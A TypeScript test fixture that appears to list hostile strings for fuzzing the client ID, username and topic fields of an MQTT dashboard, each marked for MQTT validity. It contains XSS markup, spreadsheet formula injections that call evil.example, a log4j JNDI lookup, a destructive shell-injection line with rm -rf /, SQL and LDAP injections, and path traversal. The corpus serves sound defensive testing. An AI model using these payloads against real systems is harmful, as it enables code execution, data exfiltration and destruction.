/**
 * A corpus of hostile strings for client IDs, usernames and topics (issue 11): markup and
 * script, URLs that run code, spreadsheet formulas, control characters, invisible and
 * right-to-left characters, combining marks, emoji, CJK and RTL scripts, very long values,
 * JSON/SQL/LDAP noise, percent-encoding and path traversal, Unicode normalisation pairs, and
 * what MQTT itself forbids (NUL, lone surrogates, more than 65,535 bytes).
 *
 * Each entry says whether MQTT allows it as a client ID, a username and a topic name (a PUBLISH
 * topic: no `+` or `#`; a subscription may use them as filters, but the corpus uses its topic
 * names as filters, which are always valid filters).
 */

export interface HostileString {
  /** A short, unique label for messages. */
  label: string;
  value: string;
  /** MQTT allows it as a client ID (UTF-8 string, no NUL, no surrogates, ≤ 65,535 bytes, not empty). */
  clientId: boolean;
  /** MQTT allows it as a username. */
  username: boolean;
  /** MQTT allows it as a topic name (also then a valid filter). */
  topic: boolean;
}

/** UTF-8 length, counting a lone surrogate as the 3 bytes of U+FFFD a encoder would write. */
export const utf8Bytes = (s: string) => new TextEncoder().encode(s).length;

const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;

/** A string MQTT can carry: no NUL, no U+D800–DFFF, at most 65,535 bytes of UTF-8. */
export function mqttString(s: string): boolean {
  return !s.includes('\u0000') && !LONE_SURROGATE.test(s) && utf8Bytes(s) <= 65_535;
}

/** A valid PUBLISH topic name: an MQTT string, not empty, without wildcards. */
export function mqttTopicName(s: string): boolean {
  return mqttString(s) && s.length > 0 && !/[+#]/.test(s);
}

/** Any string with a lone surrogate in it (not well-formed UTF-16). */
export const hasLoneSurrogate = (s: string) => LONE_SURROGATE.test(s);

/** The string as a UTF-8 encoder writes it (lone surrogates become U+FFFD). */
export const wellFormed = (s: string) =>
  s.replace(new RegExp(LONE_SURROGATE.source, 'g'), '\ufffd');

const raw: [label: string, value: string][] = [
  // Markup and script.
  ['script tag', '<script>window.__pwned=1</script>'],
  ['script tag upper', '<SCRIPT>window.__pwned=2</SCRIPT>'],
  ['script src', '<script src="data:text/javascript,window.__pwned=3"></script>'],
  ['img onerror', '<img src=x onerror="window.__pwned=4">'],
  ['img onerror bare', '<img src=x onerror=window.__pwned=5>'],
  ['svg onload', '<svg onload=window.__pwned=6>'],
  ['svg script', '<svg><script>window.__pwned=7</script></svg>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=8</script>"></iframe>'],
  ['iframe js src', '<iframe src="javascript:parent.__pwned=9"></iframe>'],
  ['anchor js href', '<a href="javascript:window.__pwned=10">click</a>'],
  ['body onload', '<body onload=window.__pwned=11>'],
  ['details ontoggle', '<details open ontoggle=window.__pwned=12>'],
  ['input autofocus onfocus', '<input autofocus onfocus=window.__pwned=13>'],
  ['video onerror', '<video><source onerror="window.__pwned=14"></video>'],
  ['object data', '<object data="javascript:window.__pwned=15"></object>'],
  ['embed', '<embed src="javascript:window.__pwned=16">'],
  ['math href', '<math><mtext><a href="javascript:window.__pwned=17">x</a></mtext></math>'],
  ['style tag', '<style>*{display:none!important}</style>'],
  ['style expression', '<div style="width:expression(window.__pwned=18)">'],
  ['closing div', '</div></div></div>'],
  ['closing shadow tags', '</bdi></div></section><h1>big</h1>'],
  ['closing template', '</template><script>window.__pwned=19</script>'],
  ['html comment', '<!-- x --><script>window.__pwned=20</script>'],
  ['cdata', '<![CDATA[<script>window.__pwned=21</script>]]>'],
  ['attr breaker double', '"><script>window.__pwned=22</script>'],
  ['attr breaker single', "'><img src=x onerror=window.__pwned=23>"],
  ['attr breaker mixed', `"'><svg/onload=window.__pwned=24>`],
  ['attr breaker backtick', '`><img src=x onerror=window.__pwned=25>'],
  ['attr injection', '" onmouseover="window.__pwned=26" x="'],
  ['attr injection single', "' onfocus='window.__pwned=27' autofocus '"],
  ['lt gt only', '<>'],
  ['entities', '&lt;script&gt;window.__pwned=28&lt;/script&gt;'],
  ['numeric entities', '&#60;img src=x onerror=window.__pwned=29&#62;'],
  ['amp', 'a&b&amp;c'],
  ['lit marker', '<?lit$123$>'],
  ['lit marker 2', 'lit$1234$'],
  ['template literal', '`${window.__pwned=30}`'],
  ['template expr', '${window.__pwned=31}'],
  ['template expr constructor', '${constructor.constructor("window.__pwned=32")()}'],
  ['angular template', '{{constructor.constructor("window.__pwned=33")()}}'],
  ['handlebars', '{{{html}}}'],
  ['jinja', '{% raw %}{{7*7}}'],
  ['unicode escape lt', '\\u003cscript\\u003ewindow.__pwned=34\\u003c/script\\u003e'],
  ['fullwidth lt', '\uff1cscript\uff1ewindow.__pwned=35\uff1c/script\uff1e'],
  [
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=window.__pwned=36 )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__pwned=37//>\\x3e',
  ],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=38">'],
  ['base href', '<base href="javascript:window.__pwned=39//">'],
  ['form action', '<form action="javascript:window.__pwned=40"><button>x</button></form>'],
  ['slot', '<slot name="x"></slot>'],
  ['custom element', '<cs-active-sessions demo></cs-active-sessions>'],
  // URLs that run code.
  ['javascript url', 'javascript:window.__pwned=41'],
  ['javascript url upper', 'JAVASCRIPT:window.__pwned=42'],
  ['javascript url spaced', ' javascript:window.__pwned=43'],
  ['javascript url tab', 'java\tscript:window.__pwned=44'],
  ['javascript url entity', 'javascript&#58;window.__pwned=45'],
  ['data url html', 'data:text/html,<script>window.__pwned=46</script>'],
  ['data url base64', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD00Nzwvc2NyaXB0Pg=='],
  ['vbscript url', 'vbscript:msgbox(1)'],
  ['http url', 'https://evil.example/?q=<x>'],
  ['file url', 'file:///etc/passwd'],
  // Spreadsheet formulas.
  ['formula equals', '=1+1'],
  ['formula hyperlink', '=HYPERLINK("http://evil.example","click")'],
  ['formula cmd', "=cmd|' /C calc'!A0"],
  ['formula dde', '=DDE("cmd";"/C calc";"x")'],
  ['formula plus', '+1+1'],
  ['formula plus cmd', "+cmd|' /C calc'!A0"],
  ['formula minus', '-1+1'],
  ['formula minus cmd', '-2+3+cmd|x'],
  ['formula at', '@SUM(1+1)'],
  ['formula at mail-like', '@org_x'],
  ['formula tab', '\t=1+1'],
  ['formula tab lead', '\tlead-tab'],
  ['formula cr', '\r=1+1'],
  ['formula cr lead', '\rlead-cr'],
  ['formula space equals', '  =1+1'],
  ['formula nbsp equals', '\u00a0=1+1'],
  ['formula zwsp equals', '\u200b=1+1'],
  ['formula bom equals', '\ufeff=1+1'],
  ['formula newline after', '=1+1\nsecond line'],
  ['formula importxml', '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'],
  ['formula webservice', '=WEBSERVICE("http://evil.example")'],
  ['formula fullwidth equals', '\uff1d1+1'],
  ['formula quote', "'=1+1"],
  ['formula semicolon', ';=1+1'],
  // Control characters.
  ['newline', 'line1\nline2'],
  ['crlf', 'line1\r\nline2'],
  ['cr', 'before\rafter'],
  ['tab inside', 'a\tb'],
  ['vertical tab', 'a\u000bb'],
  ['form feed', 'a\u000cb'],
  ['backspace', 'abc\u0008\u0008x'],
  ['bell', 'ding\u0007'],
  ['escape ansi', '\u001b[31mred\u001b[0m'],
  ['escape title', '\u001b]0;owned\u0007'],
  ['c0 all', Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')],
  ['del', 'del\u007f'],
  ['c1 controls', 'c1\u0080\u0085\u009b\u009f'],
  ['next line', 'a\u0085b'],
  ['line separator', 'a\u2028b'],
  ['paragraph separator', 'a\u2029b'],
  // Invisible and bidirectional characters.
  ['zero width space', 'dev\u200bice'],
  ['zero width only', '\u200b\u200b\u200b'],
  ['zwnj zwj', 'a\u200c\u200db'],
  ['word joiner', 'a\u2060b'],
  ['bom inside', 'a\ufeffb'],
  ['soft hyphen', 'de\u00advice'],
  ['rlo', '\u202egnp.exe'],
  ['rlo mid', 'invoice-\u202efdp.exe'],
  ['lro', '\u202dforced ltr'],
  ['rle unclosed', '\u202bembedded'],
  ['lre pdf', '\u202aabc\u202c'],
  ['lri', '\u2066isolate'],
  ['rli', '\u2067isolate'],
  ['fsi', '\u2068isolate'],
  ['pdi alone', 'x\u2069'],
  ['rlm lrm', '\u200fa\u200eb'],
  ['arabic letter mark', '\u061cabc'],
  ['bidi mess', '\u202e\u2066abc\u2069\u202c\u2067def'],
  ['trojan source', 'admin\u202e \u2066// check later\u2069 \u2066'],
  ['invisible separator', 'a\u2063b'],
  ['hangul filler', '\u3164'],
  ['braille blank', '\u2800'],
  ['tag characters', 'flag\udb40\udc41\udb40\udc42'],
  ['variation selector', 'a\ufe0f\ufe0e'],
  ['interlinear', '\ufff9a\ufffab\ufffb'],
  ['replacement char', '\ufffd\ufffd'],
  ['noncharacters', 'a\ufffe\uffffb'],
  ['private use', '\ue000\uf8ff'],
  // Combining marks.
  [
    'zalgo short',
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u0336\u0317\u0330\u0333\u032d\u0355\u0325',
  ],
  [
    'zalgo heavy',
    'he' + '\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(20) + 'llo',
  ],
  ['combining only', '\u0301\u0301\u0301'],
  ['combining enclosing', 'a\u20dd\u20de\u20df'],
  ['stacked tall', 'x' + '\u0346\u0347\u0348'.repeat(50)],
  // Emoji.
  ['emoji', '🔥device🔥'],
  ['emoji zwj family', '👨‍👩‍👧‍👦'],
  ['emoji zwj profession', '👩🏽‍💻-dev'],
  ['emoji flags', '🇩🇪🇯🇵🏳️‍🌈'],
  ['emoji skin tones', '👍🏻👍🏿'],
  ['emoji keycap', '1️⃣#️⃣'],
  ['emoji many', '😀'.repeat(100)],
  ['astral math', '𝕳𝖊𝖑𝖑𝖔'],
  ['astral cjk', '𠜎𠜱𠝹'],
  // CJK and right-to-left scripts.
  ['cjk', '设备-温度传感器'],
  ['japanese', 'センサー・東京'],
  ['korean', '센서-서울'],
  ['cjk fullwidth', 'ＤＥＶＩＣＥ１２３'],
  ['hebrew', 'חיישן-טמפרטורה'],
  ['arabic', 'جهاز-الاستشعار'],
  ['arabic mixed', 'device-جهاز-42'],
  ['persian digits', '۱۲۳۴'],
  ['syriac', 'ܫܠܡܐ'],
  ['thaana', 'ދިވެހި'],
  ['thai', 'เซ็นเซอร์'],
  ['devanagari', 'सेंसर'],
  ['tamil', 'நிலைமை'],
  ['myanmar', 'မြန်မာ'],
  ['mongolian', 'ᠮᠣᠩᠭᠣᠯ'],
  ['greek', 'αισθητήρας'],
  ['cyrillic lookalike', 'аdmin'],
  ['turkish i', 'İstanbul-ı'],
  ['german sharp s', 'Straße-ẞ'],
  ['ligature', 'ﬁle-ﬃ'],
  // Long values.
  ['mqtt31 limit 23', 'abcdefghijklmnopqrstuvw'],
  ['mqtt31 limit 24', 'abcdefghijklmnopqrstuvwx'],
  ['long 255', 'k'.repeat(255)],
  ['long 1 KB', 'x'.repeat(1024)],
  ['long 1 KB unbroken markup', '<b>'.repeat(341) + 'x'],
  ['long 1 KB cjk', '字'.repeat(341)],
  ['long 8 KB', 'y'.repeat(8192)],
  ['long 8 KB cjk', '字'.repeat(2730)],
  ['long 8 KB emoji', '😀'.repeat(2048)],
  ['long 65535 bytes', 'z'.repeat(65_535)],
  ['long 65535 bytes 2-byte', 'é'.repeat(32_767) + 'e'],
  ['long 65536 bytes', 'w'.repeat(65_536)],
  ['long words', 'word '.repeat(200)],
  // Whitespace.
  ['single space', ' '],
  ['spaces', '     '],
  ['tab only', '\t'],
  ['newline only', '\n'],
  ['mixed whitespace', ' \t\r\n '],
  ['nbsp only', '\u00a0\u00a0'],
  ['ideographic space', '\u3000'],
  ['em spaces', '\u2003\u2003'],
  ['leading trailing space', '  padded  '],
  // JSON, SQL and LDAP noise.
  ['json quote backslash', '"\\'],
  ['json breaker', '"},{"clientid":"evil'],
  ['json escapes', '\\u0000\\n\\"'],
  ['json proto', '__proto__'],
  ['json constructor', 'constructor'],
  ['json proto obj', '{"__proto__":{"polluted":1}}'],
  ['toString', 'toString'],
  ['hasOwnProperty', 'hasOwnProperty'],
  ['sql or', "' OR '1'='1"],
  ['sql drop', "x'; DROP TABLE clients;--"],
  ['sql union', '1 UNION SELECT password FROM users'],
  ['sql comment', 'admin--'],
  ['ldap wildcard', '*)(uid=*))(|(uid=*'],
  ['ldap null', 'admin)(&)'],
  ['xpath', "' or 1=1 or ''='"],
  ['regex special', '.*+?^${}()|[]\\'],
  ['regex redos', 'a'.repeat(40) + '!'],
  ['css escape', '\\"]; } * { color: red } [x="'],
  ['shell', '$(touch /tmp/x); `id` | rm -rf /'],
  ['format string', '%s%s%s%n%x'],
  ['log4j', '${jndi:ldap://evil.example/a}'],
  ['crlf header', 'x\r\nSet-Cookie: a=b'],
  ['null word', 'null'],
  ['undefined word', 'undefined'],
  ['NaN', 'NaN'],
  ['number', '12345'],
  ['negative zero', '-0'],
  ['true', 'true'],
  ['empty string', ''],
  // Percent-encoding and path traversal.
  ['dot dot slash', '../../../etc/passwd'],
  ['dot dot backslash', '..\\..\\windows\\win.ini'],
  ['dot', '.'],
  ['dot dot', '..'],
  ['encoded slash', 'a%2Fb'],
  ['encoded dot dot', '%2e%2e%2f%2e%2e%2f'],
  ['double encoded', '%252e%252e%252f'],
  ['percent alone', '100%'],
  ['bad percent', '%zz%'],
  ['encoded null', 'x%00y'],
  ['slash', 'a/b/c'],
  ['leading slash', '/absolute'],
  ['trailing slash', 'trailing/'],
  ['double slash', '//double'],
  ['query chars', 'a?b=c&d=e#frag'],
  ['hash', 'room#1'],
  ['plus', 'a+b'],
  ['mqtt wildcards', 'sensors/+/temp/#'],
  ['sys topic', '$SYS/brokers/x/clients/y/connected'],
  ['dollar share', '$share/group/topic'],
  ['semicolon path', 'a;b/..;/c'],
  ['unicode slash', 'a\u2215b\u2044c'],
  ['fullwidth dots', '\uff0e\uff0e\uff0f'],
  ['url with creds', 'https://user:pass@host/'],
  // Unicode normalisation pairs (each half is a distinct ID).
  ['nfc e acute', 'caf\u00e9'],
  ['nfd e acute', 'cafe\u0301'],
  ['nfc angstrom', '\u00c5ngstr\u00f6m'],
  ['angstrom sign', '\u212bngstro\u0308m'],
  ['nfkc fi', 'ﬁ-sensor'],
  ['nfkd fi', 'fi-sensor'],
  ['hangul nfc', '\ud55c'],
  ['hangul nfd', '\u1112\u1161\u11ab'],
  ['kelvin sign', '\u212a-kelvin'],
  ['case pair upper', 'DEVICE-CASE'],
  ['case pair lower', 'device-case'],
  // What MQTT forbids: only an API answer can carry these.
  ['nul', 'nul\u0000byte'],
  ['nul only', '\u0000'],
  ['nul markup', '<script>\u0000window.__pwned=48</script>'],
  ['lone high surrogate', 'lone\ud800high'],
  ['lone low surrogate', 'lone\udc00low'],
  ['reversed surrogates', '\udc00\ud800'],
  ['surrogate at end', 'end\udbff'],
];

export const HOSTILE_STRINGS: readonly HostileString[] = raw.map(([label, value]) => ({
  label,
  value,
  clientId: mqttString(value) && value.length > 0,
  username: mqttString(value),
  topic: mqttTopicName(value),
}));

/** Whether a CSV cell of this value must be neutralised (the export's formula policy). */
export const FORMULA_START = /^[\s\u00a0\u200b\ufeff]*[=+\-@]|^[\t\r]/;
